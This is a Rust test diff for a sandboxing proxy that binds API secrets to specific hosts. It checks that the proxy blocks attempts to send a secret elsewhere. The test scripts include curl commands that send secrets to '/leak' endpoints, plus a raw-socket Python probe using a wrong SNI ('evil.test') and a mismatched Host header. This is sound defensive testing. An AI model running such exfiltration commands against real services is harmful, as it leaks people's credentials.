@@ -348,3 +348,247 @@ fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
     }
     out
 }
+
+/// The reason and message of the first event of `protocol` to `host` that was denied.
+fn denied<'a>(b: &'a Boxed, protocol: &str, host: &str) -> Option<&'a Value> {
+    b.events_ref()
+        .into_iter()
+        .find(|e| e["protocol"] == protocol && e["host"] == host && e["decision"] == "deny")
+}
+
+#[test]
+fn a_placeholder_on_its_way_to_another_host_is_blocked_and_the_event_names_the_secret() {
+    let ca = TestCa::new("secrets test CA");
+    let api = Origin::https(&ca, "api.test");
+    let other = Origin::https(&ca, "other.test");
+    let plain = Origin::plain();
+    let dir = TempDir::new("secrets-tripwire");
+    let ca_file = write_ca(&dir, &ca);
+    let ws = TempDir::new("secrets-ws");
+    let (a, b) = (real_value(), real_value());
+    let (p, q, r) = (api.port, other.port, plain.port);
+    let mut flags = loopback(&["api.test", "other.test", "plain.test"]);
+    for f in [
+        "--secret".to_string(),
+        "KEY_A".into(),
+        "--secret".into(),
+        "KEY_B".into(),
+        "--secret-host".into(),
+        format!("KEY_A=api.test:{p}"),
+        "--secret-host".into(),
+        format!("KEY_B=other.test:{q}"),
+        "--allow-domain".into(),
+        format!("plain.test:{r}"),
+    ] {
+        flags.push(f);
+    }
+    let code = "-s -o /dev/null -w %{http_code}";
+    let script = format!(
+        r#"echo "plain=$(curl {code} -H "Authorization: Bearer $KEY_A" http://plain.test:{r}/leak)"
+echo "plain-url=$(curl {code} "http://plain.test:{r}/leak?key=$KEY_A")"
+echo "tls=$(curl {code} -H "x-api-key: $KEY_A" https://other.test:{q}/leak)"
+echo "control-plain=$(curl {code} http://plain.test:{r}/fine)"
+echo "control-tls=$(curl {code} -H "x-api-key: $KEY_B" https://other.test:{q}/fine)"
+"#
+    );
+    let out = run_boxed(
+        ws.path(),
+        &ca_file,
+        &[("KEY_A", &a), ("KEY_B", &b)],
+        &strs(&flags),
+        &script,
+    );
+    for line in [
+        "plain=403",
+        "plain-url=403",
+        "tls=403",
+        "control-plain=200",
+        "control-tls=200",
+    ] {
+        assert!(
+            out.stdout.lines().any(|l| l == line),
+            "{line}: {}\n{}",
+            out.stdout,
+            out.stderr
+        );
+    }
+    // Nothing of the blocked requests arrived; the controls did, with B's value only at B's host.
+    let paths = |o: &Origin| o.seen().iter().map(|s| s.path.clone()).collect::<Vec<_>>();
+    assert_eq!(paths(&plain), ["/fine"]);
+    assert_eq!(paths(&other), ["/fine"]);
+    assert_eq!(other.seen()[0].header("x-api-key"), Some(b.as_str()));
+    assert!(api.seen().is_empty());
+    // The events name the secret, the host and the binding, never the value.
+    for (protocol, host) in [("http", "plain.test"), ("https", "other.test")] {
+        let e = denied(&out, protocol, host).unwrap_or_else(|| panic!("{protocol} {host}"));
+        assert_eq!(e["reason"], "secret-not-bound", "{e}");
+        assert_eq!(e["rule"], format!("secret KEY_A -> api.test:{p}"), "{e}");
+        let m = e["message"].as_str().expect("message");
+        assert!(m.contains("secret KEY_A") && m.contains(host), "{m}");
+    }
+    out.assert_no_value(&a);
+    out.assert_no_value(&b);
+}
+
+#[test]
+fn a_bound_host_whose_certificate_the_host_does_not_trust_is_refused() {
+    let trusted = TestCa::new("secrets test CA");
+    let rogue = TestCa::new("rogue CA");
+    let origin = Origin::https(&rogue, "api.test");
+    let dir = TempDir::new("secrets-untrusted");
+    let ca_file = write_ca(&dir, &trusted);
+    let ws = TempDir::new("secrets-ws");
+    let value = real_value();
+    let p = origin.port;
+    let mut flags = loopback(&["api.test"]);
+    flags.extend([
+        "--secret".into(),
+        "API_KEY".into(),
+        "--secret-host".into(),
+        format!("api.test:{p}"),
+    ]);
+    let script = format!(
+        r#"curl -sS -H "Authorization: Bearer $API_KEY" https://api.test:{p}/x; echo "exit=$?""#
+    );
+    let out = run_boxed(
+        ws.path(),
+        &ca_file,
+        &[("API_KEY", &value)],
+        &strs(&flags),
+        &script,
+    );
+    assert!(
+        out.stdout.contains("exit=56"),
+        "CONNECT refused: {}\n{}",
+        out.stdout,
+        out.stderr
+    );
+    // The proxy went as far as the TLS handshake, which it refused: no request was sent.
+    assert_eq!(origin.connections(), 1);
+    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
+    let e = out
+        .events_ref()
+        .into_iter()
+        .find(|e| e["protocol"] == "connect" && e["host"] == "api.test")
+        .expect("the connect event");
+    assert_eq!(e["reason"], "upstream-tls-failed", "{e}");
+    assert!(
+        e["message"]
+            .as_str()
+            .is_some_and(|m| m.contains("certificate")),
+        "{e}"
+    );
+    out.assert_no_value(&value);
+}
+
+const PY_RAW: &str = r#"
+import os, socket, ssl, sys
+host, port, sni, authority = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
+proxy = os.environ["HTTPS_PROXY"].rsplit(":", 1)
+s = socket.create_connection(("127.0.0.1", int(proxy[1])))
+s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
+head = b""
+while b"\r\n\r\n" not in head:
+    head += s.recv(1)
+print("connect", head.split(b" ")[1].decode())
+try:
+    t = ssl.create_default_context().wrap_socket(s, server_hostname=sni)
+except (ssl.SSLError, OSError) as e:
+    print("handshake-refused")
+    sys.exit(0)
+t.sendall(f"GET /raw HTTP/1.1\r\nHost: {authority}\r\nAuthorization: Bearer {os.environ['API_KEY']}\r\nConnection: close\r\n\r\n".encode())
+print("status", t.recv(4096).split(b" ")[1].decode())
+"#;
+
+#[test]
+fn wrong_sni_a_wrong_host_header_and_the_bound_name_at_another_port() {
+    let ca = TestCa::new("secrets test CA");
+    let bound = Origin::https(&ca, "api.test");
+    let plain_port = Origin::https(&ca, "api.test");
+    let closed_port = Origin::https(&ca, "api.test");
+    let dir = TempDir::new("secrets-sni");
+    let ca_file = write_ca(&dir, &ca);
+    let ws = TempDir::new("secrets-ws");
+    std::fs::write(ws.join("raw.py"), PY_RAW).expect("script");
+    let value = real_value();
+    let (p, t, c) = (bound.port, plain_port.port, closed_port.port);
+    let mut flags = loopback(&["api.test"]);
+    flags.extend([
+        "--secret".into(),
+        "API_KEY".into(),
+        "--secret-host".into(),
+        format!("api.test:{p}"),
+        // The same name at another port, allowed but not bound: a plain tunnel.
+        "--allow-domain".into(),
+        format!("api.test:{t}"),
+    ]);
+    let script = format!(
+        r#"python3 raw.py api.test {p} evil.test api.test:{p}
+python3 raw.py api.test {p} api.test other.test
+python3 raw.py api.test {p} api.test api.test:{p}
+echo "tunnel=$(curl -sk -H "x-api-key: $API_KEY" https://api.test:{t}/tunnel)"
+curl -sS https://api.test:{c}/closed; echo "closed=$?"
+"#
+    );
+    let out = run_boxed(
+        ws.path(),
+        &ca_file,
+        &[("API_KEY", &value)],
+        &strs(&flags),
+        &script,
+    );
+    let lines: Vec<&str> = out.stdout.lines().collect();
+    // Wrong SNI: the handshake is refused before any certificate is shown.
+    assert_eq!(
+        &lines[0..2],
+        ["connect 200", "handshake-refused"],
+        "{}",
+        out.stdout
+    );
+    // Right SNI, wrong Host: 421, nothing forwarded.
+    assert_eq!(
+        &lines[2..4],
+        ["connect 200", "status 421"],
+        "{}",
+        out.stdout
+    );
+    // Right SNI and Host (positive control).
+    assert_eq!(
+        &lines[4..6],
+        ["connect 200", "status 200"],
+        "{}",
+        out.stdout
+    );
+    // The bound name at an allowed, unbound port: not intercepted, so the origin there got the
+    // placeholder (the box's to send), never the value.
+    let tunneled = plain_port.seen();
+    assert_eq!(tunneled.len(), 1, "{}", out.stdout);
+    let got = tunneled[0]
+        .header("x-api-key")
+        .unwrap_or_default()
+        .to_string();
+    assert!(got.starts_with("airlock-secret-API_KEY-"), "{got}");
+    // At a port neither bound nor allowed: refused by the allowlist.
+    assert!(out.stdout.contains("closed=56"), "{}", out.stdout);
+    assert_eq!(closed_port.connections(), 0);
+    // The bound origin got exactly the one good request, with the value.
+    let seen = bound.seen();
+    assert_eq!(seen.len(), 1, "{seen:?}");
+    assert_eq!(
+        seen[0].header("authorization"),
+        Some(format!("Bearer {value}").as_str())
+    );
+    let sni = denied(&out, "https", "api.test").expect("an https denial");
+    assert_eq!(sni["reason"], "sni-mismatch", "{sni}");
+    assert!(out
+        .events_ref()
+        .iter()
+        .any(|e| e["reason"] == "misdirected-request" && e["decision"] == "deny"));
+    let tunnel = out
+        .events_ref()
+        .into_iter()
+        .find(|e| e["protocol"] == "connect" && e["port"] == t)
+        .expect("the tunnel's event");
+    assert!(tunnel.get("intercepted").is_none(), "{tunnel}");
+    out.assert_no_value(&value);
+}
